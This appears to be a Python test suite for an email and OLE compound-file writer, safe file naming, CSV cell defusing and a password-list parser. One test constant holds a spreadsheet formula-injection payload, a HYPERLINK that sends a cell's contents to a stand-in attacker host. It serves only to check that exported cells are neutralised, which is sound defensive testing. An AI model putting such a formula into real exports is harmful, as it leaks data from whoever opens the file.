"""readers.mail_form: what is written is the same everywhere and reads back as it was given."""

import email
import hashlib
import io
import struct
import uuid
from email.policy import default as modern
from pathlib import Path
from typing import Any

import olefile
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from controller.browse.items import FIELDS
from core.csv_cells import csv_cells, defused
from core.errors import UsageError
from core.names import unsafe_name
from core.options import MOST_PASSWORDS
from core.passwords import MOST_BYTES, PasswordBank, bank_of, parse_bank, read_bank
from core.records import BankNote, JobOptions, Limits
from readers.base import MemorySource
from readers.cfb import Storage, write
from readers.mail.eml import EmlHandler
from readers.mail.headers import decode_text
from readers.mail.parts import Message
from readers.mail_form import (
    MailAttachment,
    MailForm,
    base64_lines,
    clean_text,
    message_name,
    store_name,
    write_message,
)

HANDLER = EmlHandler()


def full() -> MailForm:
    inner = MailForm(message_id="in@x.example", subject="Re: 1/2", plain="inner\n")
    return MailForm(
        message_id="one@x.example",
        sent=1_700_000_000,
        sender=("Grün, Öl", "gruen@x.example"),
        to=(('The "Boss"', "boss@x.example"), ("", "b@x.example")),
        cc=(("No Address", ""),),
        bcc=(("c@x.example", "c@x.example"),),
        subject="Prüfung: " + "ein langer Betreff " * 6,
        in_reply_to="zero@x.example",
        references=("minus@x.example", "zero@x.example"),
        plain="Guten Tag\nÄ\n",
        html="<p>Guten <b>Tag</b>",
        attachments=(
            MailAttachment(name='a "b"; c=d.pdf', data=b"%PDF-1.4 \0\xff" * 99, media_type="application/pdf"),
            MailAttachment(name="", message=inner),
            MailAttachment(name="größe.png", data=b"\x89PNG", media_type="image/png", content_id="p1@x"),
            MailAttachment(name="note.txt", data=b"--text", media_type="text/plain; charset=x"),
            MailAttachment(name="", data=b""),
        ),
    )


def test_the_bytes_never_change() -> None:
    digest = hashlib.sha256(write_message(full())).hexdigest()
    assert digest == "2e8c5734b2ecafd13ec5874440658326b2061db0777a04e6a32488320b757d74"


def test_children_and_text_as_given() -> None:
    data = write_message(full())
    source = MemorySource(b"m", data)
    assert HANDLER.text(source, Limits()).text == "Guten Tag\nÄ\n"
    found = list(HANDLER.children(source, Limits()))
    assert [child.name.decode() for child in found] == [
        'a "b"; c=d.pdf', "Re: 1_2.eml", "größe.png", "note.txt", "part-4",
    ]  # fmt: skip
    assert [child.media_type for child in found] == [
        "application/pdf", "message/rfc822", "image/png", "text/plain", "application/octet-stream",
    ]  # fmt: skip
    inner = full().attachments[1].message
    assert inner is not None
    assert [child.data for child in found] == [
        b"%PDF-1.4 \0\xff" * 99, write_message(inner), b"\x89PNG", b"--text", b"",
    ]  # fmt: skip
    assert b"Content-ID: <p1@x>" in data


def test_another_parser_reads_the_same() -> None:
    message = email.message_from_bytes(write_message(full()), policy=modern)
    assert message["subject"].strip() == full().subject.strip()
    assert [a.display_name for a in message["from"].addresses] == ["Grün, Öl"]
    assert [(a.display_name, a.addr_spec) for a in message["to"].addresses] == list(full().to)
    assert message["date"].datetime.timestamp() == full().sent
    assert [part.get_content_type() for part in message.walk()] == [
        "multipart/mixed", "multipart/alternative", "text/plain", "text/html", "application/pdf", "message/rfc822",
        "text/plain", "image/png", "text/plain", "application/octet-stream",
    ]  # fmt: skip
    assert all(not part.defects for part in message.walk())
    assert max(map(len, write_message(full()).split(b"\n"))) <= 120


def test_html_alone_is_the_text() -> None:
    html = HANDLER.text(MemorySource(b"m", write_message(MailForm(html="<p>only <i>this</i>"))), Limits())
    assert html.text.split() == ["only", "this"]
    bare = write_message(MailForm())
    assert HANDLER.text(MemorySource(b"m", bare), Limits()).text == ""
    assert b"Date:" not in bare
    files = write_message(MailForm(attachments=(MailAttachment(name="a", data=b"x"),)))
    assert [child.name for child in HANDLER.children(MemorySource(b"m", files), Limits())] == [b"a"]


def test_a_message_inside_a_message_inside() -> None:
    """Boundaries of a message are never those of a message inside it, even when nothing else tells them apart."""
    form = MailForm(attachments=(MailAttachment(name="a", data=b"x"),))
    for _ in range(6):
        form = MailForm(attachments=(MailAttachment(name="", message=form),))
    for _ in range(6):
        (child,) = HANDLER.children(MemorySource(b"m", write_message(form)), Limits())
        assert form.attachments[0].message is not None
        form = form.attachments[0].message
        assert child.data == write_message(form)


_TEXT = (
    st.text(max_size=60) | st.text('aä?=\r\n"\\<>,;: \t/', max_size=60) | st.just("wide " * 400) | st.just("w" * 3000)
)


@given(subject=_TEXT, name=_TEXT, file=_TEXT, plain=_TEXT, ident=_TEXT, when=st.integers(-(10**14), 10**14))
def test_no_field_breaks_another(subject: str, name: str, file: str, plain: str, ident: str, when: int) -> None:
    """Whatever the fields hold, each comes back as it was but for white space, and none makes a field or part."""
    form = MailForm(
        message_id=ident,
        sent=when,
        sender=(name, "a@b.example"),
        to=((name, "c@d.example"),),
        subject=subject,
        plain=plain,
        attachments=(MailAttachment(name=file, data=plain.encode(), media_type=file),),
    )
    data = write_message(form)
    root = Message(data).root
    assert decode_text(root.fields.raw(b"subject")).strip() == subject.strip()
    assert root.fields.raw(b"bcc") == b""
    assert "a@b.example" in root.fields.text(b"from")
    assert "c@d.example" in root.fields.text(b"to")
    assert root.media_type == "multipart/mixed"
    (child,) = HANDLER.children(MemorySource(b"m", data), Limits())
    assert child.data == plain.encode()
    assert max(map(len, data.split(b"\n"))) <= 998 or len(file) > 250 or len(ident) > 900


@given(st.lists(_TEXT, max_size=3), _TEXT)
def test_names_in_a_store_are_safe(folders: list[str], subject: str) -> None:
    """A name that we make is no exception, and has as many parts as there are folders and a message."""
    name = store_name(folders, subject)
    assert unsafe_name(name) is None
    assert name.count(b"/") == len(folders)
    assert all(name.split(b"/"))
    assert unsafe_name(message_name(subject).encode()) is None


def test_names_in_a_store() -> None:
    assert store_name(("Inbox", "Project X"), "Subject") == b"Inbox/Project X/Subject"
    assert store_name(("A/B",), "") == b"A_B/message"
    assert store_name((), "R: lunch") == b"R_ lunch"
    assert message_name("") == "message.eml"


def test_clean_text() -> None:
    assert clean_text("a\r\nb\rc\n\0\0") == "a\nb\nc\n"


def test_base64_lines() -> None:
    assert base64_lines(b"x" * 58) == b"eHh4" * 19 + b"\neA==\n"
    assert base64_lines(b"") == b""


_NAMES = st.text(
    st.characters(exclude_characters="/\\:!", exclude_categories=["Cs", "Cc"], max_codepoint=0xFFFF),
    min_size=1,
    max_size=31,
)
_STREAMS = st.one_of(
    st.binary(max_size=200),
    st.builds(
        lambda seed, size: bytes([seed]) * size, st.integers(0, 255), st.sampled_from([63, 64, 4095, 4096, 9000])
    ),
)


def _plain(name: str) -> str:
    return "".join(c.upper() if len(c.upper()) == 1 else c for c in name)


def _storages(depth: int) -> st.SearchStrategy[Storage]:
    inner = st.lists(_storages(depth - 1), max_size=3) if depth else st.just([])

    def make(named: list[tuple[str, bytes]], storages: list[Storage], name: str, clsid: bytes) -> Storage:
        taken: set[str] = set()
        streams = {n: data for n, data in named if not (_plain(n) in taken or taken.add(_plain(n)))}
        kept = [s for s in storages if not (_plain(s.name) in taken or taken.add(_plain(s.name)))]
        return Storage(name, clsid=clsid, streams=streams, storages=kept)

    streams = st.lists(st.tuples(_NAMES, _STREAMS), max_size=12)
    return st.builds(make, streams, inner, _NAMES, st.binary(min_size=16, max_size=16))


def _flat(storage: Storage, at: tuple[str, ...] = ()) -> dict[tuple[str, ...], bytes | None]:
    found: dict[tuple[str, ...], bytes | None] = {(*at, name): data for name, data in storage.streams.items()}
    for inner in storage.storages:
        found[(*at, inner.name)] = None
        found |= _flat(inner, (*at, inner.name))
    return found


def _read(data: bytes) -> dict[tuple[str, ...], bytes | None]:
    with olefile.OleFileIO(io.BytesIO(data), raise_defects=olefile.DEFECT_INCORRECT) as ole:
        assert ole.parsing_issues == []
        paths = [tuple(p) for p in ole.listdir(streams=True, storages=True)]
        return {
            p: None if ole.get_type(list(p)) == olefile.STGTY_STORAGE else ole.openstream(list(p)).read() for p in paths
        }


def _entries(data: bytes) -> list[tuple[Any, ...]]:
    """Directory entries: (UTF-16 name, length, type, colour, left, right, child)."""
    size = 1 << struct.unpack_from("<H", data, 30)[0]
    at = (struct.unpack_from("<I", data, 48)[0] + 1) * size
    count = 1
    while data[at + 128 * count + 66] in (1, 2):
        count += 1
    return [struct.unpack_from("<64sHBBIII", data, at + 128 * i) for i in range(count)]


def _check_tree(entries: list[tuple[Any, ...]], top: int, seen: list[int]) -> int:
    """Number of black entries from here to any end, in order; fails where the tree is not red-black."""
    if top == 0xFFFFFFFF:
        return 1
    _, _, _, colour, left, right, _ = entries[top]
    if colour == 0:
        for below in (left, right):
            assert below == 0xFFFFFFFF or entries[below][3] == 1, "red below red"
    blacks = _check_tree(entries, left, seen)
    seen.append(top)
    assert blacks == _check_tree(entries, right, seen)
    return blacks + colour


def _order(entry: tuple[Any, ...]) -> tuple[int, list[int]]:
    name = entry[0][: entry[1] - 2].decode("utf-16-le", "surrogatepass")
    units = _plain(name).encode("utf-16-le", "surrogatepass")
    return entry[1], [int.from_bytes(units[i : i + 2], "little") for i in range(0, len(units), 2)]


@settings(max_examples=60, deadline=None)
@given(_storages(2), st.sampled_from([3, 4]))
def test_what_is_written_is_read_back(root: Storage, version: int) -> None:
    data = write(root, version=version)
    assert _read(data) == _flat(root)
    entries = _entries(data)
    for entry in entries:
        seen: list[int] = []
        assert entry[6] == 0xFFFFFFFF or entries[entry[6]][3] == 1, "the topmost entry is black"
        _check_tree(entries, entry[6], seen)
        keys = [_order(entries[i]) for i in seen]
        assert keys == sorted(keys)


@pytest.mark.parametrize("count", [1, 2, 3, 4, 6, 7, 8, 100, 255, 256, 700])
def test_a_storage_of_any_number_of_streams_is_a_red_black_tree(count: int) -> None:
    data = write(Storage(streams={f"s{n}": b"%d" % n for n in range(count)}))
    seen: list[int] = []
    entries = _entries(data)
    _check_tree(entries, entries[0][6], seen)
    assert len(seen) == count
    assert len(_read(data)) == count


@pytest.mark.parametrize("megabytes", [6, 8, 25])
def test_files_beyond_what_the_header_can_map_have_a_difat(megabytes: int) -> None:
    root = Storage(streams={"big": bytes(range(256)) * (megabytes << 12), "small": b"abc", "none": b""})
    data = write(root)
    assert _read(data) == _flat(root)
    assert (struct.unpack_from("<I", data, 72)[0] > 0) == (megabytes > 6)


def test_class_ids_and_times_are_kept() -> None:
    clsid = bytes(range(16))
    inner = Storage("inner", clsid=clsid[::-1], created=132_223_104_000_000_000, modified=132_223_104_000_000_001)
    with olefile.OleFileIO(write(Storage(clsid=clsid, storages=[inner]))) as ole:
        assert ole.root.clsid == "03020100-0504-0706-0809-0A0B0C0D0E0F"
        assert ole.getclsid("inner") == "0C0D0E0F-0A0B-0809-0706-050403020100"
        assert ole.direntries[1].createTime == inner.created
        assert ole.direntries[1].modifyTime == inner.modified


@pytest.mark.parametrize(
    "root",
    [
        Storage(streams={"": b""}),
        Storage(streams={"x" * 32: b""}),
        Storage(streams={"a/b": b""}),
        Storage(streams={"Name": b"", "nAME": b""}),
        Storage(streams={"both": b""}, storages=[Storage("both")]),
        Storage(clsid=b"short"),
    ],
)
def test_what_no_reader_could_find_again_is_refused(root: Storage) -> None:
    with pytest.raises(ValueError, match=r"."):
        write(root)


FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_what_could_be_a_formula_is_text(start: str) -> None:
    """An apostrophe in front and nothing else."""
    assert defused(f"{start}1+1") == f"'{start}1+1"


@given(st.text(max_size=20))
def test_nothing_is_lost(cell: str) -> None:
    assert defused(cell) in (cell, f"'{cell}")
    assert not defused(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_an_items_row_is_defused_unless_it_is_wanted_raw() -> None:
    ident = str(uuid.UUID(int=1))
    item = dict.fromkeys(FIELDS) | {
        "id": ident,
        "custodian": "@SUM(A1)",
        "container_path": [FORMULA, "x"],
        "name": "-2+3",
        "bytes": 12,
        "container": False,
        "exceptions": [],
    }
    row = dict(zip(FIELDS, csv_cells(item, FIELDS), strict=True))
    assert (row["id"], row["bytes"], row["sha256"]) == (ident, "12", "")
    assert (row["custodian"], row["name"], row["container_path"]) == ("'@SUM(A1)", "'-2+3", f"'{FORMULA} / x")
    raw = dict(zip(FIELDS, csv_cells(item, FIELDS, raw=True), strict=True))
    assert (raw["custodian"], raw["name"], raw["container_path"]) == ("@SUM(A1)", "-2+3", f"{FORMULA} / x")


LINES = st.lists(
    st.text(st.characters(codec="utf-8", exclude_characters="\n\r\0\ufeff"), max_size=40), min_size=1, max_size=20
).filter(any)


@given(LINES)
def test_a_bank_comes_back_from_its_file(lines: list[str]) -> None:
    """Nothing is stripped from a password; its line is the first that has it."""
    bank = parse_bank(PasswordBank(tuple(lines)).to_bytes(), "it")
    assert bank.passwords == {line: lines.index(line) + 1 for line in lines if line}
    assert parse_bank(bank.to_bytes(), "it").to_bytes() == bank.to_bytes()  # of which the digest is made, slowly


def test_lines_of_windows_and_empty_ones() -> None:
    """A byte order mark and carriage returns are no part of a password, spaces are; empty lines keep their number."""
    assert parse_bank("\ufeffone\r\n\r\n two \r\n".encode(), "it").passwords == {"one": 1, " two ": 3}


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "no password"),
        (b"\n\n", "no password"),
        (b"good\nb\xff\xfe\n", "line 2 is not UTF-8"),
        (b"x" * (MOST_BYTES + 1), "line 1"),
        (b"a\0b", "line 1"),
        ("\n".join(map(str, range(MOST_PASSWORDS + 1))).encode(), "the most is"),
    ],
)
def test_a_bad_file_is_refused_in_one_line_that_shows_no_password(tmp_path: Path, data: bytes, why: str) -> None:
    file = tmp_path / "p.txt"
    file.write_bytes(data)
    with pytest.raises(UsageError, match=why) as caught:
        read_bank(file)
    shown = str(caught.value)
    assert shown.startswith("--passwords ")
    assert "\n" not in shown
    assert "good" not in shown


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="does not exist"):
        read_bank(tmp_path / "none")


def test_nothing_that_is_shown_has_a_password() -> None:
    bank = bank_of(["hunter2", "tiger"], "it")
    assert parse_bank(bank.to_bytes(), "it").note == bank.note
    options = JobOptions(passwords=bank.note)
    assert "hunter2" not in repr(bank) + repr(options)
    assert options.to_json()["passwords"] == {"count": 2, "digest": bank.note.digest}
    assert JobOptions.from_json(options.to_json()) == options
    old = JobOptions().to_json()
    del old["passwords"]
    assert JobOptions.from_json(old).passwords == BankNote()


def test_more_passwords_come_behind_those_there_are() -> None:
    one, two = parse_bank(b"a\n\nb\n", "it"), parse_bank(b"b\nc\n", "it")
    assert one.extended(two).passwords == {"a": 1, "b": 3, "c": 4}
    assert one.note != one.extended(two).note


def test_a_line_break_in_a_password_is_refused() -> None:
    with pytest.raises(UsageError, match="line break"):
        bank_of(["a\nb"], "passwords")
